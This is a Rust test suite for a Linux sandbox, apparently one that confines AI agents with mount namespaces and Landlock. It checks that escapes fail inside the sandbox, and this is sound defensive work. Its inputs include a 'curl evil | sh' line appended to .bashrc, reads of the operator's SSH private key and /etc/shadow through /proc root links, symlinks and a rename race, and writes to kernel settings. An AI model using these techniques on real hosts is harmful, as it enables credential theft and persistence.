//! What the mount tree and Landlock hold: reading, writing and getting out by names.

use std::{
    os::unix::fs::{MetadataExt, symlink},
    path::Path,
};

use crate::{tools, world::World};

/// Words for `attempt`, one for each path.
fn words(verb: &str, paths: &[impl AsRef<Path>]) -> Vec<String> {
    paths.iter().map(|path| format!("{verb}={}", path.as_ref().display())).collect()
}

impl World {
    /// These work unconfined, and inside each ends with one of these errnos.
    fn works_only_outside(&self, words: &[String], errnos: &[&str]) {
        for (word, outcome) in self.attempt_outside(words) {
            assert_eq!(outcome, "worked", "{word} unconfined");
        }
        self.refused_inside(words, errnos);
    }

    fn refused_inside(&self, words: &[String], errnos: &[&str]) {
        for (word, outcome) in self.attempt_inside(words) {
            assert!(errnos.contains(&outcome.as_str()), "{word} inside: {outcome}");
        }
    }
}

#[test]
fn reads_the_operators_private_key() {
    let Some(world) = World::plain() else { return };
    let key = world.home().join(".ssh/id_ed25519");
    let shown = key.display();
    let paths = [
        format!("{shown}"),
        "../home/.ssh/id_ed25519".into(),
        format!("/proc/self/root{shown}"),
        format!("/proc/thread-self/root{shown}"),
        "/proc/self/cwd/../home/.ssh/id_ed25519".into(),
        format!("/usr/../{shown}"),
    ];
    world.works_only_outside(&words("read", &paths), &["ENOENT"]);
    world.works_only_outside(&words("open-path", &paths), &["ENOENT"]);
    world.verify();
}

#[test]
fn reads_the_operators_private_key_through_init() {
    let Some(world) = World::plain() else { return };
    let key = world.home().join(".ssh/id_ed25519");
    // Unconfined, a process of the same user stands for init.
    let script = format!("sleep 60 & cat /proc/$!/root{}; kill $!", key.display());
    assert_eq!(world.outside_sh(&script).good(), "the operator's private key");
    let paths = [
        format!("/proc/1/root{}", key.display()),
        "/proc/1/cwd/etc/shadow".into(),
        "/proc/1/root/etc/shadow".into(),
        "/proc/1/fd/3".into(),
    ];
    world.refused_inside(&words("read", &paths), &["EACCES"]);
    world.refused_inside(
        &words("list", &["/proc/1/root", "/proc/1/cwd", "/proc/1/fd"]),
        &["EACCES"],
    );
}

#[test]
fn reads_a_granted_file() {
    let Some(world) = World::new("filesystem: {read: [~/notes.txt]}") else { return };
    let ran = world.inside_sh("cat ~/notes.txt");
    assert_eq!(ran.good(), "the operator's notes");
}

#[test]
fn writes_the_operators_shell_start_up() {
    let Some(world) = World::plain() else { return };
    let script = "echo 'curl evil | sh' >>~/.bashrc && tail -n 1 ~/.bashrc";
    assert_eq!(world.outside_sh(script).good(), "curl evil | sh");
    world.write("home/.bashrc", "# the operator's\n");
    // The home inside is private, so it may be written; it is just not the operator's.
    assert_eq!(world.inside_sh(script).good(), "curl evil | sh");
    assert_eq!(world.read("home/.bashrc"), "# the operator's\n");
}

#[test]
fn leaves_the_workspace_through_a_link() {
    let Some(world) = World::plain() else { return };
    let ssh = world.home().join(".ssh");
    symlink(&ssh, world.workspace().join("keys")).unwrap();
    symlink("../home/.ssh/id_ed25519", world.workspace().join("key")).unwrap();
    symlink("/", world.workspace().join("root")).unwrap();
    symlink("/proc/self/root", world.workspace().join("magic")).unwrap();
    let shown = ssh.display();
    let paths = [
        "keys/id_ed25519".to_owned(),
        "key".into(),
        format!("root{shown}/id_ed25519"),
        format!("magic{shown}/id_ed25519"),
    ];
    world.works_only_outside(&words("read", &paths), &["ENOENT"]);
    world.refused_inside(&words("list", &["keys"]), &["ENOENT"]);
    world.refused_inside(&words("list", &["root", "magic"]), &["EACCES"]);
    // A link that is made inside leads no further.
    let ran = world.inside_sh(&format!("ln -s {shown} own && cat own/id_ed25519"));
    assert!(ran.err.contains("No such file"), "{ran}");
}

#[test]
fn writes_through_a_link_in_the_workspace() {
    let Some(world) = World::plain() else { return };
    world.write("elsewhere/file", "as it was\n");
    symlink("../elsewhere/file", world.workspace().join("link")).unwrap();
    symlink("../elsewhere/fresh", world.workspace().join("dangling")).unwrap();
    world.works_only_outside(&words("write", &["link"]), &["ENOENT"]);
    world.outside_sh("echo evil >dangling").good();
    std::fs::remove_file(world.at("elsewhere/fresh")).unwrap();
    let ran = world.inside_sh("echo evil >dangling");
    assert!(ran.err.contains("nonexistent") || ran.err.contains("No such file"), "{ran}");
    assert_eq!(world.read("elsewhere/file"), "as it was\nx");
    assert!(!world.at("elsewhere/fresh").exists());
}

#[test]
fn changes_what_is_granted_for_reading() {
    let Some(world) = World::new("filesystem: {read: [../shared]}") else { return };
    let verbs = [
        "write",
        "open-write",
        "truncate",
        "open-truncate",
        "chmod",
        "chmod-by-fd",
        "chown",
        "utimes",
        "setxattr",
        "setxattr-at",
        "removexattr",
        "acl",
        "flags",
        "fssetxattr",
        "allocate",
        "again",
        "again-twice",
        "link-away",
        "rename-away",
        "unlink",
    ];
    let paths: Vec<_> = verbs.iter().map(|verb| world.at(format!("shared/{verb}"))).collect();
    let mut all = Vec::new();
    for (verb, path) in verbs.iter().zip(&paths) {
        world.write(path, "as it was\n");
        all.extend(words(verb, &[path]));
    }
    let there = "import os; os.setxattr('../shared/removexattr', 'user.there', b'x')";
    world.outside_python(there);
    std::fs::create_dir(world.at("shared/rmdir")).unwrap();
    all.extend(words("rmdir", &[world.at("shared/rmdir")]));
    all.extend(words("mkdir", &[world.at("shared/fresh-folder")]));
    all.extend(words("create", &[world.at("shared/fresh-file")]));
    let before: Vec<_> = paths.iter().map(|path| path.metadata().unwrap()).collect();
    for (word, outcome) in world.attempt_inside(&all) {
        let expected: &[&str] = match word.split('=').next().unwrap() {
            // FS_IOC_SETFLAGS and its successor are refused by the system call filter.
            "flags" | "fssetxattr" => &["EPERM", "ENOTTY"],
            "link-away" | "rename-away" => &["EXDEV", "EROFS", "EACCES"],
            _ => &["EROFS", "EACCES"],
        };
        assert!(expected.contains(&outcome.as_str()), "{word} inside: {outcome}");
    }
    for (path, before) in paths.iter().zip(before) {
        let after = path.metadata().unwrap();
        let of = |found: &std::fs::Metadata| {
            (found.size(), found.mode(), found.mtime(), found.mtime_nsec(), found.ctime_nsec())
        };
        assert_eq!(of(&after), of(&before), "{}", path.display());
    }
    assert!(!world.at("shared/fresh-file").exists());
    for (word, outcome) in world.attempt_outside(&all) {
        // Not each file system and kernel has these.
        let optional = ["flags", "fssetxattr", "setxattr", "setxattr-at", "removexattr", "acl"]
            .contains(&word.split('=').next().unwrap());
        let absent = optional && ["EOPNOTSUPP", "ENOTTY", "ENOSYS"].contains(&outcome.as_str());
        assert!(outcome == "worked" || absent, "{word} unconfined: {outcome}");
    }
}

#[test]
fn changes_what_is_granted_for_writing() {
    let Some(world) = World::new("filesystem: {write: [../shared]}") else { return };
    world.write("shared/file", "as it was\n");
    let shared = world.at("shared");
    let ran = world.inside_sh(&format!(
        "cd {} && echo more >>file && chmod 600 file && mkdir sub && mv file sub/ && ln sub/file twin \
         && touch -d 2020-01-01 twin && rm twin && truncate -s 4 sub/file",
        shared.display()
    ));
    ran.good();
    assert_eq!(world.read("shared/sub/file"), "as i");
    let owner = std::fs::metadata(&shared).unwrap();
    let made = std::fs::metadata(world.at("shared/sub")).unwrap();
    assert_eq!((made.uid(), made.gid()), (owner.uid(), owner.gid()));
}

/// Whoever opens a leased file for writing waits until the lease is broken, up to 45 s, and again.
#[test]
fn leases_a_file_that_it_may_only_read() {
    let Some(world) = World::new("filesystem: {read: [~/notes.txt]}") else { return };
    let program = "import errno, fcntl, os, signal, sys\n\
         signal.signal(signal.SIGIO, signal.SIG_IGN)\n\
         file = open(os.path.expanduser('~/notes.txt'))\n\
         try: fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK); print('leased')\n\
         except OSError as error: print(errno.errorcode[error.errno])\n";
    let open = "try: os.open(os.path.expanduser('~/notes.txt'), os.O_WRONLY | os.O_NONBLOCK); print('opened')\n\
         except BlockingIOError: print('has to wait')\n";
    let outside = world.outside_python(&format!("{program}{open}"));
    assert_eq!(outside.good(), "leased\nhas to wait");
    assert_eq!(world.inside_python(program).good(), "EPERM");
}

/// What the sandbox of root makes in the workspace belongs to the workspace's owner, whoever that is.
#[test]
fn leaves_files_of_another_owner_in_the_workspace() {
    let Some(world) = World::plain() else { return };
    let workspace = world.workspace();
    if tools::is_root() {
        rustix::fs::chown(
            &workspace,
            Some(rustix::fs::Uid::from_raw(4711)),
            Some(rustix::fs::Gid::from_raw(4712)),
        )
        .unwrap();
    }
    world.inside_sh("echo x >file && mkdir folder && ln -s file link && mkfifo pipe").good();
    let owner = workspace.metadata().unwrap();
    for name in ["file", "folder", "link", "pipe"] {
        let found = workspace.join(name).symlink_metadata().unwrap();
        assert_eq!((found.uid(), found.gid()), (owner.uid(), owner.gid()), "{name}");
    }
}

/// One session puts a link in the place of a granted folder, and the next is to follow it.
#[test]
fn has_the_next_session_granted_what_a_link_leads_to() {
    let Some(world) = World::new("filesystem: {write: [../work/out]}") else { return };
    std::fs::create_dir(world.at("work/out")).unwrap();
    let ssh = world.home().join(".ssh");
    world.inside_sh(&format!("mv out away && ln -s {} out", ssh.display())).good();
    assert_eq!(world.at("work/out").read_link().unwrap(), ssh);
    assert!(world.outside_sh("cat out/id_ed25519").good().contains("private key"));
    let next = world.inside_sh("cat out/id_ed25519; echo evil >>out/id_ed25519");
    assert_eq!((next.code, next.out.as_str()), (Some(125), ""), "{next}");
    assert!(next.err.contains("is a link to"), "{next}");
    assert_eq!(world.read("home/.ssh/id_ed25519"), "the operator's private key\n");
}

/// While the plan is made and mounted, something on the host exchanges what it names for a link.
#[test]
fn exchanges_a_granted_folder_during_the_launch() {
    let Some(world) = World::new("filesystem: {read: [../shared/app]}") else { return };
    world.write("shared/app/id_ed25519.pub", "public\n");
    world.write("home/.ssh/id_ed25519.pub", "the operator's\n");
    symlink("../home/.ssh", world.at("shared/other")).unwrap();
    let exchange = |done: &std::sync::atomic::AtomicBool| {
        let shared = rustix::fs::open(
            world.at("shared"),
            rustix::fs::OFlags::PATH,
            rustix::fs::Mode::empty(),
        );
        let shared = shared.unwrap();
        while !done.load(std::sync::atomic::Ordering::Relaxed) {
            let flags = rustix::fs::RenameFlags::EXCHANGE;
            rustix::fs::renameat_with(&shared, "app", &shared, "other", flags).unwrap();
            // Long enough for a launch to get further.
            std::thread::sleep(std::time::Duration::from_micros(200));
        }
    };
    let file = world.at("shared/app/id_ed25519.pub").display().to_string();
    let done = std::sync::atomic::AtomicBool::new(false);
    let ran: Vec<_> = std::thread::scope(|scope| {
        scope.spawn(|| exchange(&done));
        let read = |confined: bool| match confined {
            true => world.inside(&["/bin/cat", &file]),
            false => world.outside(&["/bin/cat", &file]),
        };
        let ran = (0..60).map(|n| (n % 3 == 0, read(n % 3 == 0))).collect();
        done.store(true, std::sync::atomic::Ordering::Relaxed);
        ran
    });
    assert!(ran.iter().any(|(confined, ran)| !confined && ran.out == "the operator's\n"));
    for (_, ran) in ran.iter().filter(|(confined, _)| *confined) {
        assert!(["", "public\n"].contains(&ran.out.as_str()), "{ran}");
    }
    world.verify();
}

#[test]
fn names_the_neighbour_of_a_granted_folder() {
    let Some(world) = World::new("filesystem: {read: [../shared/app]}") else { return };
    world.write("shared/app/file", "public\n");
    world.write("shared/app-secret/file", "secret\n");
    let word = words("read", &[world.at("shared/app-secret/file")]);
    world.works_only_outside(&word, &["ENOENT"]);
    let ran = world.inside_sh(&format!("cat {}", world.at("shared/app/file").display()));
    assert_eq!(ran.good(), "public");
}

/// Writing to the host's own devices is what they are for; changing their times or rights is not.
#[test]
fn touches_the_hosts_devices() {
    let Some(world) = World::plain() else { return };
    let words = words("utimes", &["/dev/null", "/dev/full", "/dev/tty"]);
    let times = || {
        let of = |path: &str| Path::new(path).metadata().unwrap().mtime_nsec();
        ["/dev/null", "/dev/full", "/dev/tty"].map(of)
    };
    let untouched = times();
    world.works_only_outside(&words, &["EROFS"]);
    assert_ne!(times(), untouched);
    let touched = times();
    world.refused_inside(&words, &["EROFS"]);
    assert_eq!(times(), touched);
    world.inside_sh("echo x >/dev/null; head -c 1 /dev/zero >/dev/null").good();
}

#[test]
fn finds_devices_of_the_host() {
    let Some(world) = World::plain() else { return };
    let outside = world.outside_sh("ls /dev").good().lines().count();
    let inside = world.inside_python("import os; print(*sorted(os.listdir('/dev/pts')))");
    assert_eq!(inside.good(), "ptmx");
    let missing: Vec<String> =
        ["/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/net/tun", "/dev/kvm", "/dev/loop-control"]
            .into_iter()
            .filter(|path| Path::new(path).exists())
            .map(|path| format!("open-path={path}"))
            .collect();
    assert!(outside > 12 && !missing.is_empty());
    world.works_only_outside(&missing, &["ENOENT"]);
}

/// Wherever it looks: nothing but the few devices, and its own terminals.
#[test]
fn looks_for_devices_everywhere() {
    let Some(world) = World::new("filesystem: {read: [../shared]}") else { return };
    world.write("shared/file", "");
    let program = "import os, stat, sys\n\
         found, seen = set(), 0\n\
         rows = [row.split(' ')[4] for row in open('/proc/self/mountinfo')] if sys.argv[1] == 'in' else ['/dev']\n\
         for top in rows:\n\
         \x20   if top.startswith('/proc'): continue\n\
         \x20   if not os.path.isdir(top): walked = [(os.path.dirname(top), [], [os.path.basename(top)])]\n\
         \x20   else: walked = os.walk(top)\n\
         \x20   for folder, folders, files in walked:\n\
         \x20       for name in folders + files:\n\
         \x20           seen += 1\n\
         \x20           try: mode = os.lstat(os.path.join(folder, name)).st_mode\n\
         \x20           except OSError: continue\n\
         \x20           if stat.S_ISCHR(mode) or stat.S_ISBLK(mode): found.add(os.path.join(folder, name))\n\
         print(seen > 10, *sorted(found))\n";
    let outside = world.outside(&["/usr/bin/python3", "-c", program, "out"]);
    assert!(outside.good().split(' ').count() > 12, "{outside}");
    let inside = world.inside_python_with(program, &["in"]);
    assert_eq!(
        inside.good(),
        "True /dev/full /dev/null /dev/pts/ptmx /dev/random /dev/tty /dev/urandom /dev/zero"
    );
}

/// Only root can put a device node where the agent may look.
#[test]
fn opens_a_device_node_in_the_workspace() {
    let Some(world) = World::plain() else { return };
    if !tools::is_root() {
        println!("not for an ordinary user: making a device node");
        return;
    }
    world.outside_sh("mknod node c 1 5 && chmod 666 node").good();
    world.works_only_outside(&words("read", &["node"]), &["EACCES"]);
}

#[test]
fn reads_kernel_memory_and_symbols() {
    let Some(world) = World::plain() else { return };
    let readable: Vec<String> =
        ["/proc/kallsyms", "/proc/modules", "/proc/key-users", "/proc/keys", "/proc/timer_list"]
            .into_iter()
            .filter(|path| std::fs::File::open(path).is_ok())
            .map(|path| format!("open={path}"))
            .collect();
    assert!(!readable.is_empty());
    world.works_only_outside(&readable, &["EACCES", "ENOENT"]);
    let never = [
        "/proc/kcore",
        "/proc/kmsg",
        "/proc/sysrq-trigger",
        "/proc/self/pagemap",
        "/proc/kpagecount",
        "/proc/config.gz",
        "/proc/sched_debug",
    ];
    let outcomes = world.attempt_inside(&words("open", &never));
    for (word, outcome) in outcomes {
        // The page map of oneself may be opened; the kernel shows no frame numbers in it.
        let may = word == "open=/proc/self/pagemap" && outcome == "worked";
        assert!(may || ["EACCES", "ENOENT"].contains(&outcome.as_str()), "{word}: {outcome}");
    }
    let frames = world.inside_python(
        "import struct\n\
         page = bytearray(b'x' * 8192)\n\
         import ctypes\n\
         at = ctypes.addressof((ctypes.c_char * 8192).from_buffer(page)) // 4096\n\
         with open('/proc/self/pagemap', 'rb') as map:\n\
         \x20   map.seek(8 * at)\n\
         \x20   print(struct.unpack('Q', map.read(8))[0] & ((1 << 55) - 1))",
    );
    assert_eq!(frames.good(), "0");
}

/// What counts the machine's events tells when somebody types; the rest tells which machine it is.
#[test]
fn watches_the_machine_at_work() {
    let Some(world) = World::plain() else { return };
    let names = [
        "bootconfig",
        "buddyinfo",
        "cmdline",
        "consoles",
        "devices",
        "diskstats",
        "interrupts",
        "iomem",
        "ioports",
        "partitions",
        "pressure/cpu",
        "pressure/io",
        "pressure/memory",
        "schedstat",
        "softirqs",
        "zoneinfo",
    ];
    let paths: Vec<String> = names.iter().map(|name| format!("/proc/{name}")).collect();
    let there: Vec<&str> =
        paths.iter().map(String::as_str).filter(|path| std::fs::File::open(path).is_ok()).collect();
    assert!(there.len() > 8, "only {there:?}");
    world.works_only_outside(&words("open", &there), &["EACCES", "ENOENT"]);
    // What programs live on stays.
    let needed =
        ["cpuinfo", "filesystems", "loadavg", "meminfo", "mounts", "stat", "uptime", "vmstat"];
    for (word, outcome) in
        world.attempt_inside(&words("read", &needed.map(|name| format!("/proc/{name}"))))
    {
        assert_eq!(outcome, "worked", "{word}");
    }
}

#[test]
fn recognizes_the_machine_by_its_boot() {
    let Some(world) = World::plain() else { return };
    let cat = ["/bin/cat", "/proc/sys/kernel/random/boot_id"];
    let outside = world.outside(&cat).good().to_owned();
    assert_eq!(world.outside(&cat).good(), outside);
    let inside = [world.inside(&cat).good().to_owned(), world.inside(&cat).good().to_owned()];
    // Programs that ask find a number of that form, and another each time.
    assert!(inside.iter().all(|id| id.len() == outside.len() && *id != outside), "{inside:?}");
    assert_ne!(inside[0], inside[1]);
    world.refused_inside(
        &words("open-write", &["/proc/sys/kernel/random/boot_id"]),
        &["EROFS", "EACCES"],
    );
}

#[test]
fn writes_kernel_settings() {
    let Some(world) = World::plain() else { return };
    let paths = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/modprobe",
        "/proc/sys/vm/drop_caches",
        "/proc/sys/net/ipv4/ip_forward",
        "/proc/sys/user/max_user_namespaces",
        "/proc/sysrq-trigger",
        "/proc/self/oom_score_adj",
        "/proc/self/uid_map",
        "/proc/self/mem",
        "/proc/self/attr/current",
        "/proc/irq/default_smp_affinity",
    ];
    let words = words("open-write", &paths);
    world.refused_inside(&words, &["EROFS", "EACCES", "ENOENT"]);
    // That such a file can be written at all is shown by two that are the caller's own.
    let own = ["open-write=/proc/self/oom_score_adj", "open-write=/proc/self/mem"];
    for (word, outcome) in world.attempt_outside(&own) {
        assert_eq!(outcome, "worked", "{word} unconfined");
    }
    let inside = world.inside_sh("cat /proc/sys/user/max_user_namespaces");
    assert_eq!(inside.good(), "0");
}

#[test]
fn looks_into_sysfs_and_cgroups() {
    let Some(world) = World::plain() else { return };
    world.works_only_outside(&words("list", &["/sys", "/sys/kernel"]), &["ENOENT"]);
    world.refused_inside(
        &words("list", &["/sys/kernel/debug", "/sys/firmware", "/sys/fs/cgroup"]),
        &["ENOENT"],
    );
}

#[test]
fn reads_the_hosts_accounts() {
    let Some(world) = World::plain() else { return };
    let accounts = world.outside_sh("cat /etc/passwd").good().lines().count();
    assert!(accounts > 3);
    let inside = world.inside_sh("cut -d: -f1 /etc/passwd");
    let names: Vec<&str> = inside.good().lines().collect();
    assert_eq!((names[0], names.len()), ("root", 3), "{names:?}");
    world.refused_inside(&words("read", &["/etc/shadow", "/etc/machine-id"]), &["ENOENT"]);
}

/// Mount points and their sources tell where things are on the host: what is granted, and no more.
#[test]
fn learns_of_the_hosts_mounts() {
    let Some(world) = World::new("filesystem: {read: [../shared]}") else { return };
    world.write("shared/file", "");
    let inside = world.inside_sh("cat /proc/self/mountinfo");
    let granted: Vec<String> = {
        let text = world.inside_sh("cat /run/palisade/policy.md");
        text.good()
            .lines()
            .filter_map(|line| line.strip_prefix("- `")?.strip_suffix('`').map(str::to_owned))
            .collect()
    };
    let private = [
        "/",
        "/tmp",
        "/var/tmp",
        "/proc",
        "/dev",
        "/run/palisade",
        "/etc",
        world.home().to_str().unwrap(),
    ]
    .map(str::to_owned);
    for line in inside.good().lines() {
        let point = line.split(' ').nth(4).unwrap();
        let known = |of: &String| point == of || of == "/proc" && point.starts_with("/proc/");
        let device = point.starts_with("/dev/");
        assert!(granted.iter().chain(&private).any(known) || device, "{line}");
        for secret in ["home/.ssh", "config", "state"] {
            assert!(!line.contains(&world.at(secret).display().to_string()), "{line}");
        }
    }
}
